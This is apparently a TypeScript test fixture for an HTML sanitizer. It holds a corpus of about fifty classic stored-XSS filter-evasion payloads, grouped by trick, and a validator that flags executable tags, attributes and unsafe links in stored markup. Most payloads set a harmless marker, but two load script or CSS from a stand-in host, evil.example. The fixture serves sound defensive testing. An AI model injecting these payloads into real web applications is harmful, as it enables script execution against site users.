/**
 * Classic stored-XSS payloads (OWASP filter-evasion style), each saved through every endpoint that keeps
 * operator-written HTML. Written for these tests; grouped by the trick they use.
 */
export const XSS_CORPUS: readonly string[] = [
  // Script elements
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<script/x>window.__xss=1</script>',
  '<<script>window.__xss=1;//<</script>',
  '<p>text</p><script type="module">window.__xss=1</script>',
  // Event handlers
  '<img src=x onerror="window.__xss=1">',
  '<p onclick="window.__xss=1">click</p>',
  '<p onmouseover=window.__xss=1>hover</p>',
  '<body onload=window.__xss=1>',
  '<input autofocus onfocus=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<video><source onerror="window.__xss=1"></video>',
  '<a href="https://ok.example" onmouseover="window.__xss=1">link</a>',
  '<p/onclick=window.__xss=1>slash</p>',
  '<marquee onstart=window.__xss=1>m</marquee>',
  // javascript:, vbscript: and data: URLs
  '<a href="javascript:window.__xss=1">js</a>',
  '<a href="JaVaScRiPt:window.__xss=1">mixed case</a>',
  '<a href=" javascript:window.__xss=1">leading space</a>',
  '<a href="java\tscript:window.__xss=1">tab</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">entities</a>',
  '<a href="&#x6A;avascript&#x3A;window.__xss=1">hex entities</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>',
  '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  // SVG and MathML
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  // Frames, objects, embeds, meta and base
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="javascript:window.__xss=1//">',
  '<link rel="stylesheet" href="javascript:window.__xss=1">',
  // Style tricks
  '<p style="background:url(javascript:window.__xss=1)">bg</p>',
  '<p style="width:expression(window.__xss=1)">ie expression</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:window.__xss=1")}</style>',
  '<span style="behavior:url(xss.htc)">behavior</span>',
  // Encoded and broken markup
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '<img src="x" onerror="&#119;indow.__xss=1">',
  '<a href="https://ok.example" title="x" "onmouseover="window.__xss=1">quotes</a>',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<template><script>window.__xss=1</script></template>',
  '<a href="https://ok.example">ok</a><img src=x:x onerror=window.__xss=1>',
];

/** Tags the service may store: the formatting the console's editor writes, nothing that loads or runs anything. */
const INERT_TAGS = new Set([
  'p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'strike', 'code', 'pre', 'blockquote', 'h1', 'h2', 'h3', 'h4', 'ul', 'ol', 'li', 'hr', 'a', 'span',
]);
const SAFE_HREF = /^(https?:|mailto:)/i;

/**
 * What in stored HTML could run: any tag outside the inert set, any attribute but a link's href/target/rel,
 * or a link to anything but http(s) or mailto. Checked independently of the sanitizer's own options.
 */
export function executableMarkupIn(html: string): string[] {
  const problems: string[] = [];
  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
    const m = /^<\/?\s*([a-zA-Z][\w:-]*)([\s\S]*?)\/?>$/.exec(tag);
    if (!m) {
      problems.push(`unparsed tag ${tag}`);
      continue;
    }
    const name = m[1].toLowerCase();
    if (!INERT_TAGS.has(name)) problems.push(`tag ${tag}`);
    for (const [, attr, , value = ''] of m[2].matchAll(/([^\s=]+)(\s*=\s*"([^"]*)")?/g)) {
      const key = attr.toLowerCase();
      if (name !== 'a' || !['href', 'target', 'rel'].includes(key)) problems.push(`attribute ${attr} in ${tag}`);
      else if (key === 'href' && !SAFE_HREF.test(value.replace(/&#[\w]+;/g, '?').trim())) problems.push(`href ${value}`);
    }
  }
  return problems;
}
